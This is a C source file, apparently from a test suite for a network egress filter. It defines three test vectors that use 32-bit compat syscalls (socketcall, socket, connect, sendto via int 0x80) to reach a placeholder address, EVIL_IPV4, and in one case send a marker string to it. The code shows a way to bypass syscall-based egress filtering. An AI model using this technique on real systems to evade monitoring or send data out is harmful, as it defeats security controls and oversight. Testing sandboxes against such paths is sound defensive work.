// SPDX-License-Identifier: MIT
/* The system calls of 32-bit programs. This program is linked below 4 GB, so that its variables have such addresses. */
#include "egress.h"

#include <errno.h>
#include <linux/net.h>
#include <string.h>

#define SYS32_SOCKETCALL 102
#define SYS32_SOCKET 359
#define SYS32_CONNECT 362

static struct sockaddr_in destination;
static unsigned int arguments[6];

static int call32(unsigned int number, unsigned int first, unsigned int second, unsigned int third)
{
	int result;

	asm volatile("int $0x80"
		     : "=a"(result)
		     : "a"(number), "b"(first), "c"(second), "d"(third)
		     : "memory", "r8", "r9", "r10", "r11");
	if (result >= 0)
		return result;
	errno = -result;
	return -1;
}

static unsigned int low(const void *pointer)
{
	return (unsigned int)(unsigned long)pointer;
}

static int socketcall(int call)
{
	return call32(SYS32_SOCKETCALL, call, low(arguments), 0);
}

static void compat_sendto(int)
{
	int fd = step("socket", call32(SYS32_SOCKET, AF_INET, SOCK_DGRAM, 0));

	destination = ipv4(EVIL_IPV4);
	arguments[0] = fd;
	arguments[1] = low(self.marker);
	arguments[2] = strlen(self.marker);
	arguments[4] = low(&destination);
	arguments[5] = sizeof(destination);
	step("sendto", socketcall(SYS_SENDTO));
}

static void compat_connect(int)
{
	int fd = step("socket", call32(SYS32_SOCKET, AF_INET, STREAM, 0));
	int result;

	destination = ipv4(EVIL_IPV4);
	result = call32(SYS32_CONNECT, fd, low(&destination), sizeof(destination));
	step("connect", result && errno == EINPROGRESS ? 0 : result);
}

static void compat_socketcall_connect(int)
{
	int result;

	arguments[0] = AF_INET;
	arguments[1] = STREAM;
	arguments[0] = step("socket", socketcall(SYS_SOCKET));
	destination = ipv4(EVIL_IPV4);
	arguments[1] = low(&destination);
	arguments[2] = sizeof(destination);
	result = socketcall(SYS_CONNECT);
	step("connect", result && errno == EINPROGRESS ? 0 : result);
}

const struct vector compat_vectors[] = {
	{"compat_sendto", compat_sendto},
	{"compat_connect", compat_connect},
	{"compat_socketcall_connect", compat_socketcall_connect},
	{},
};
